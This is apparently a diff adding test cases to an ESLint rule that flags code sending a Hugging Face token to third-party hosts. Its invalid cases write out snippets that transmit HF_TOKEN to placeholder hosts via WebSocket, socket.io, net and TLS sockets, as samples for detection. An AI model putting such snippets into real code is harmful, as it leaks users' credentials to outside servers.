@@ -17,6 +17,11 @@ ruleTester.run("no-token-to-third-party", rule, {
   valid: [
     `const hub = axios.create({ baseURL: "https://huggingface.co/api", headers: { Authorization: \`Bearer \${process.env.HF_TOKEN}\` } });`,
     `const api = axios.create({ baseURL: "https://api.example.com" });`,
+    // Connections to Hugging Face, to a host the code does not name, or that send no token; an \`io\` not from socket.io-client.
+    `const ws = new WebSocket("wss://api-inference.huggingface.co/ws");\nws.send(process.env.HF_TOKEN);`,
+    `const socket = net.connect(9000);\nsocket.write(process.env.HF_TOKEN);`,
+    `const ws = new WebSocket("wss://relay.example.net/socket");\nws.send(JSON.stringify({ model: process.env.HF_MODEL }));`,
+    `function io(url) { return { emit() {} }; }\nconst socket = io("https://events.example.org");\nsocket.emit("auth", process.env.HF_TOKEN);`,
     // Hugging Face's own hosts.
     `fetch("https://huggingface.co/api/whoami-v2", { headers: { Authorization: ${BEARER} } });`,
     `fetch("https://router.huggingface.co/v1/chat/completions", { headers: { Authorization: ${BEARER} } });`,
@@ -48,6 +53,28 @@ ruleTester.run("no-token-to-third-party", rule, {
     },
   ],
   invalid: [
+    // What a connection opened to another host sends there (src/catalogue/requests.ts connections).
+    {
+      code: `const ws = new WebSocket("wss://relay.example.net/socket");\nws.onopen = () => ws.send(JSON.stringify({ auth: process.env.HF_TOKEN }));`,
+      errors: [sent("new WebSocket(…).send", "relay.example.net")],
+    },
+    {
+      code: `const ws = new WebSocket("wss://relay.example.net/socket?token=" + process.env.HF_TOKEN);\nws.send(process.env.HF_TOKEN);`,
+      // The URL is reported where the socket is made; the send, where it sends.
+      errors: [{ ...sent("new WebSocket", "relay.example.net"), line: 1 }, { ...sent("new WebSocket(…).send", "relay.example.net"), line: 2 }],
+    },
+    {
+      code: `import { io } from "socket.io-client";\nconst socket = io("https://events.example.org");\nsocket.emit("auth", { token: process.env.HF_TOKEN });`,
+      errors: [sent("io(…).emit/send", "events.example.org")],
+    },
+    {
+      code: `const net = require("node:net");\nconst socket = net.connect(9000, "logs.example.net");\nsocket.write(process.env.HF_TOKEN + "\\n");`,
+      errors: [sent("net.connect(…).write/end", "logs.example.net")],
+    },
+    {
+      code: "const tls = require(\"tls\");\nconst s = tls.connect({ host: \"logs.example.net\", port: 6514 });\ns.end(`token=${process.env.HF_TOKEN}`);",
+      errors: [sent("tls.connect(…).write/end", "logs.example.net")],
+    },
     // SDK clients created with the token and an endpoint elsewhere (src/catalogue/requests.ts client options).
     {
       code: `const client = new OpenAI({ apiKey: process.env.HF_TOKEN, baseURL: "https://api.together.xyz/v1" });`,
